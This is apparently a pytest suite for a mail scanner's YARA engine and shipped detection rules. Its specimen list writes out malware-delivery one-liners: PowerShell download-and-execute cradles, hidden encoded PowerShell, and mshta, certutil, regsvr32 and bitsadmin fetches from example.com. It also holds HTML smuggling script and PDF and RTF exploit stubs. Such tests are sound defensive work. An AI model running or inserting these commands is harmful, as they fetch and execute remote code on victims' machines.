"""The yara engine, and the rules we ship: what each finds, and what none may."""

from __future__ import annotations

import base64
import email
import io
import os
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from clamd_server import EICAR

from spoolscan.errors import ConfigError
from spoolscan.scanner.engines import Engine, Sample, YaraSettings, build
from spoolscan.scanner.engines.yara import Yara
from spoolscan.verdict import Cause, Finding, Verdict

REPOSITORY = Path(__file__).parents[1]
RULES = REPOSITORY / "etc" / "rules"
ONE = 'rule one { strings: $a = "first" condition: $a }'
TWO = 'rule two { strings: $a = "second" condition: $a }'


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    (tmp_path / "a.yar").write_text(ONE)
    return tmp_path


def names(engine: Engine, data: bytes) -> set[str]:
    return {finding.name for finding in engine.scan([Sample(("1",), data)])}


# The directory of rules


def test_every_yar_file_is_a_namespace_of_its_own(rules: Path) -> None:
    (rules / "b.yar").write_text(ONE + TWO)
    (rules / "notes.txt").write_text("no rule")
    [engine] = build([YaraSettings(rules=rules)])
    found = engine.scan([Sample(("1",), b"first and second")])
    assert [finding.name for finding in found] == ["one", "one", "two"]


def test_a_rule_says_its_name_and_verdict(rules: Path) -> None:
    meta = 'meta: name = "Nice.Name" verdict = "banned" description = "x" author = 7'
    (rules / "b.yar").write_text(f'rule x {{ {meta} strings: $a = "bad" condition: $a }}')
    [engine] = build([YaraSettings(rules=rules, name="y")])
    assert engine.scan([Sample(("2",), b"bad")]) == [
        Finding(Verdict.BANNED, ("2",), "Nice.Name", "y")
    ]


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ('rule x {\n strings: $a = "abc\n condition: $a }', r":2:16: syntax error: unclosed"),
        ("rule x { condition: $b }", ":1:21: unknown pattern `\\$b`"),
        ('import "nothing"', ":1:1: unknown module"),
        ('include "/etc/passwd"', ":1:1: include statements not allowed"),
        ('rule x { meta: verdict = "fine" condition: true }', "verdict = 'fine': allowed"),
        ("rule x { meta: verdict = 1 condition: true }", "verdict = 1: allowed"),
        ('rule x { meta: name = "a\\nb" condition: true }', "name = b'a"),
        ("rule x { meta: name = 7 condition: true }", "name = 7: give"),
        ("rule x { condition: \udcff }", "byte 20 is not UTF-8"),
    ],
)
def test_a_rule_that_cannot_be_used_is_told_with_file_and_place(
    rules: Path, text: str, complaint: str
) -> None:
    (rules / "bad.yar").write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(ConfigError, match=f"^{rules}/bad.yar.*{complaint}"):
        build([YaraSettings(rules=rules)])


def test_a_directory_without_rules_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "empty.yar").write_text("// nothing here yet")
    with pytest.raises(ConfigError, match="no rule in any"):
        build([YaraSettings(rules=tmp_path)])


def test_a_missing_directory_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="missing: No such file or directory"):
        build([YaraSettings(rules=tmp_path / "missing")])


@pytest.mark.parametrize("timeout", [0, -1, float("nan"), float("inf")])
def test_a_timeout_that_is_none_is_an_error(rules: Path, timeout: float) -> None:
    with pytest.raises(ConfigError, match="timeout = "):
        build([YaraSettings.model_construct(rules=rules, timeout=timeout)])


def test_a_scan_without_end_is_given_up(rules: Path) -> None:
    (rules / "b.yar").write_text(
        "rule endless { condition: for any i in (0..100000000000): (uint8(i % 3) == 199) }"
    )
    [engine] = build([YaraSettings(rules=rules, timeout=0.1)])
    [finding] = engine.scan([Sample(("1",), b"x")])
    assert (finding.verdict, finding.cause) == (Verdict.UNSCANNABLE, Cause.LIMIT)
    assert "longer than 1 s" in finding.name


# Reloading


@pytest.fixture
def told() -> list[str]:
    return []


@pytest.fixture
def engine(rules: Path, told: list[str]) -> Yara:
    return Yara(YaraSettings(rules=rules), told.append)


def test_changed_rules_are_in_force_with_the_next_scan(engine: Yara, rules: Path) -> None:
    (rules / "a.yar").write_text(TWO)
    assert names(engine, b"first second") == {"two"}


def test_a_file_that_comes_or_goes_is_noticed(engine: Yara, rules: Path) -> None:
    (rules / "b.yar").write_text(TWO)
    assert names(engine, b"first second") == {"one", "two"}
    (rules / "a.yar").unlink()
    assert names(engine, b"first second") == {"two"}


def test_nothing_is_reloaded_where_nothing_changed(engine: Yara, rules: Path) -> None:
    assert not engine.reload()
    (rules / "a.yar").write_text(TWO)
    assert engine.reload()
    assert not engine.reload()


@pytest.mark.parametrize(
    "edit", ["rule one {", "", 'rule x { meta: verdict = "?" condition: true }']
)
def test_a_bad_edit_keeps_the_old_rules_and_is_told_once(
    engine: Yara, rules: Path, told: list[str], edit: str
) -> None:
    (rules / "a.yar").write_text(edit)
    assert names(engine, b"first") == {"one"}
    assert names(engine, b"first") == {"one"}
    assert len(told) == 1
    assert told[0].startswith(f"engine yara: the old rules stay in force: {rules}")


def test_a_bad_edit_that_is_mended_is_taken_up(engine: Yara, rules: Path, told: list[str]) -> None:
    (rules / "a.yar").write_text("rule one {")
    engine.reload()
    (rules / "a.yar").write_text(TWO)
    assert names(engine, b"first second") == {"two"}
    assert len(told) == 1


def test_a_directory_that_vanishes_keeps_the_old_rules(
    engine: Yara, rules: Path, told: list[str]
) -> None:
    rules.rename(rules.with_name("elsewhere"))
    for _ in range(2):
        assert names(engine, b"first") == {"one"}
    assert len(told) == 1
    rules.with_name("elsewhere").rename(rules)
    assert engine.reload()


# The rules we ship


def zipped(*entries: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in entries:
            archive.writestr(entry, "<xml/>")
    return packed.getvalue()


def ole(*contents: bytes) -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1").ljust(512, b"\0") + b"\0".join(contents)


def program(signature: bytes, offset: int = 0x80) -> bytes:
    return b"MZ".ljust(0x3C, b"\0") + struct.pack("<L", offset) + bytes(64) + signature + bytes(99)


LINK = bytes.fromhex("4C0000000114020000000000C000000000000046") + bytes(56)
ONENOTE = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + bytes(1008)
EMBEDDED = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC") + bytes(20)
CODE = base64.b64encode("Write-Host 'nothing, and a bit more of it'".encode("utf-16-le"))
SMUGGLING = (
    b"<html><script>var b = new Blob([%s], {type: 'x'}); var a = document.createElement('a');"
    b"a.href = URL.createObjectURL(b); a.download = 'x.zip'; a.click();</script></html>"
)
FOUND: list[tuple[str, bytes]] = [
    ("EICAR-Test-File", EICAR),
    ("EICAR-Test-File", b"some words before " + EICAR),
    ("Program.Windows", program(b"PE\0\0")),
    ("Program.Windows", program(b"NE")),
    ("Program.Windows", b"MZ" + struct.pack("<8H", 100, 3, 0, 4, 0, 0xFFFF, 0, 0) + bytes(99)),
    ("Program.ELF", b"\x7fELF\x02\x01\x01" + bytes(99)),
    ("Program.MachO", b"\xcf\xfa\xed\xfe" + bytes(99)),
    ("Program.MachO", b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(99)),
    ("Program.Java", b"\xca\xfe\xba\xbe\0\0\0\x3d" + bytes(99)),
    ("Program.Android", b"dex\n035\0" + bytes(99)),
    ("Program.WindowsInstaller", ole(bytes.fromhex("84100C0000000000C000000000000046"))),
    ("Script.PowerShellEncoded", b"powershell.exe -NoP -w hidden -enc " + CODE),
    (
        "Script.PowerShellEncoded",
        (b"PowerShell /EncodedCommand " + CODE).decode().encode("utf-16-le"),
    ),
    (
        "Script.PowerShellDownload",
        b"IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')",
    ),
    ("Script.PowerShellDownload", b"iwr -useb https://example.com/a | iex"),
    ("Script.Dropper", b"mshta http://example.com/a.hta"),
    ("Script.Dropper", b'"C:\\Windows\\System32\\mshta.exe" "javascript:x()"'),
    ("Script.Dropper", b"certutil.exe -f -urlcache -split http://example.com/a a.exe"),
    ("Script.Dropper", b"regsvr32 /s /n /u /i:http://example.com/a.sct scrobj.dll"),
    ("Script.Dropper", b"bitsadmin /transfer job http://example.com/a c:\\a.exe"),
    (
        "Script.Dropper",
        b'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c calc.exe");',
    ),
    ("Script.Dropper", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell x"'),
    ("Script.Encoded", b"#@~^bgAAAA==some encoded script"),
    ("Script.HTA", b"<html><HTA:APPLICATION ID=x><script>"),
    (
        "Script.Scriptlet",
        b'<?xml version="1.0"?><job><script language="JScript">WScript.Echo(1)</script></job>',
    ),
    ("Shortcut.Command", LINK + "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le")),
    ("Shortcut.Command", LINK + b"%COMSPEC% /c x"),
    ("Shortcut.Embedded", ole(LINK, b"C:\\Windows\\calc.exe")),
    ("HTML.Smuggling", SMUGGLING % b"Uint8Array.from(atob(data))"),
    (
        "HTML.Smuggling",
        b"<script>b = new Blob([atob(x)]); navigator.msSaveOrOpenBlob(b, 'a.iso')</script>",
    ),
    (
        "RTF.EquationEditor",
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01}}}",
    ),
    ("RTF.EquationEditor", b"{\\rt {\\object{\\*\\objdata 0b0000004571756174696f6E2e33 00}}}"),
    ("RTF.EquationEditor", b"{\\rtf1{\\*\\objdata 02CE020000000000C000000000000046}}"),
    ("RTF.ObjectUpdate", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}"),
    ("PDF.Launch", b"%PDF-1.4\n1 0 obj <</S /Launch /F (a.exe)>> endobj"),
    ("PDF.Launch", b"junk %PDF-1.4\n1 0 obj <</S/L#61unch/Win<</F(cmd.exe)>>>> endobj"),
    ("PDF.JavaScript", b"%PDF-1.4\n<</OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>"),
    ("PDF.JavaScript", b"%PDF-1.4\n<</Open#41ction 2 0 R>> 2 0 obj <</S/JavaScript/JS 3 0 R>>"),
    (
        "PDF.JavaScript",
        b"%PDF-1.4\n<</OpenAction 2 0 R>> <</JS (this.print\\(\\);)>> <</JS 3 0 R>>",
    ),
    ("OneNote.EmbeddedProgram", ONENOTE + EMBEDDED + b"MZ"),
    ("OneNote.EmbeddedProgram", ONENOTE + EMBEDDED + LINK),
    (
        "OneNote.EmbeddedProgram",
        ONENOTE + EMBEDDED + b"@echo off" + "invoice.bat\0".encode("utf-16-le"),
    ),
]

HARMLESS: list[tuple[str, bytes]] = [
    ("words about EICAR", b"The EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE is harmless."),
    ("text that starts with MZ", b"MZ is how every program of DOS begins. " * 9),
    ("text that starts with ELF", b"ELF stands for executable and linkable format"),
    ("a compound file", ole("WordDocument".encode("utf-16-le"), b"Shell", b"Document_Open")),
    ("a document without macros", zipped("[Content_Types].xml", "word/document.xml")),
    ("an archive of sources", zipped("src/vbaProject.bin.txt", "doc/macrosheets/readme.txt")),
    ("a workbook", ole("Workbook".encode("utf-16-le"), bytes.fromhex("85000E000001000000000600"))),
    ("words about powershell", b"Run powershell -enc with your code, or certutil -decode a b."),
    ("words about mshta", b"mshta is a program that opens https links in pages."),
    ("a web page", b"<html><script>fetch('/a').then(r => r.blob())</script></html>"),
    ("a page that previews a picture", b"<script>u = URL.createObjectURL(new Blob([x]))</script>"),
    ("a shortcut to a document", LINK + "C:\\Users\\me\\letter.odt".encode("utf-16-le")),
    ("an RTF letter", b"{\\rtf1\\ansi Dear Bob, the Equation.3 of page 2 \\objdata}"),
    ("words about RTF", b"put {\\rtf1 first, then \\objupdate and \\objdata"),
    ("a PDF", b"%PDF-1.4\n<</OpenAction [3 0 R /Fit]>> (to launch a rocket)"),
    (
        "a PDF that prints itself",
        b"%PDF-1.4\n<</OpenAction <</S /JavaScript /JS (this.print(true);)>>>>",
    ),
    ("a PDF form", b"%PDF-1.4\n<</AA <</K <</S /JavaScript /JS (AFNumber_Keystroke\\(2\\))>>>>>>"),
    (
        "a notebook with a picture",
        ONENOTE + EMBEDDED + b"\x89PNG\r\n" + "a.png\0".encode("utf-16-le"),
    ),
    ("nothing", b""),
]


@pytest.fixture(scope="module")
def shipped() -> Engine:
    [engine] = build([YaraSettings(rules=RULES)])
    return engine


@pytest.mark.parametrize(
    ("name", "data"), [pytest.param(*row, id=f"{row[0]}-{i}") for i, row in enumerate(FOUND)]
)
def test_a_shipped_rule_finds_its_specimen(shipped: Engine, name: str, data: bytes) -> None:
    assert name in names(shipped, data)


@pytest.mark.parametrize("data", [pytest.param(data, id=what) for what, data in HARMLESS])
def test_no_shipped_rule_finds_what_is_harmless(shipped: Engine, data: bytes) -> None:
    assert names(shipped, data) == set()


def test_every_shipped_rule_has_a_specimen_a_name_and_a_description() -> None:
    rules = [rule for file in RULES.glob("*.yar") for rule in _described(file.read_text("utf-8"))]
    assert len(rules) > 20
    assert {name for name, _ in rules} == {name for name, _ in FOUND}
    assert all(description for _, description in rules)


def _described(text: str) -> Iterator[tuple[str, str]]:
    """Name and description of each rule, read from the text and not by the engine."""
    for rule in text.split("\nrule ")[1:]:
        meta = dict(
            line.strip().split(" = ", 1)
            for line in rule.partition("strings:")[0].partition("condition:")[0].splitlines()
            if " = " in line
        )
        assert meta["verdict"] in ('"infected"', '"banned"')
        yield meta["name"].strip('"'), meta["description"].strip('"')


def test_the_package_itself_is_clean(shipped: Engine) -> None:
    for folder in ("spoolscan", "etc", "tests"):
        for file in (REPOSITORY / folder).rglob("*"):
            if file.is_file() and file.suffix in (".py", ".yar", ".toml", ".rst", ".eml"):
                found = names(shipped, file.read_bytes()) & {"EICAR-Test-File"}
                assert not found, f"{file} would be taken for a virus"


@pytest.mark.corpus
def test_real_mail_and_clean_documents_are_not_found(shipped: Engine) -> None:
    corpus = Path(os.environ.get("SPOOLSCAN_CORPUS", REPOSITORY.parent / "shared" / "corpus"))
    if not (corpus / "MANIFEST.tsv").is_file():
        pytest.skip(f"no corpus at {corpus}: set SPOOLSCAN_CORPUS to judge the rules on real mail")
    # Labelled clean by its name alone: it holds an Equation Editor object that updates itself.
    exploit = "oletools/rtfobj/issue_251.rtf"
    found = []
    for row in (corpus / "MANIFEST.tsv").read_text("utf-8").splitlines():
        path, kind = row.split("\t")[:2]
        if kind in ("real mail", "clean mail", "clean document") and path != exploit:
            samples = [Sample((path, str(i)), data) for i, data in enumerate(_read(corpus / path))]
            found += shipped.scan(samples)
    assert found == []
    assert names(shipped, (corpus / exploit).read_bytes()) == {
        "RTF.EquationEditor",
        "RTF.ObjectUpdate",
    }


def _read(path: Path) -> Iterator[bytes]:
    """The file, and the parts of it where it is a message, decoded."""
    data = path.read_bytes()
    yield data
    for part in email.message_from_bytes(data).walk():
        if isinstance(body := part.get_payload(decode=True), bytes):
            yield body
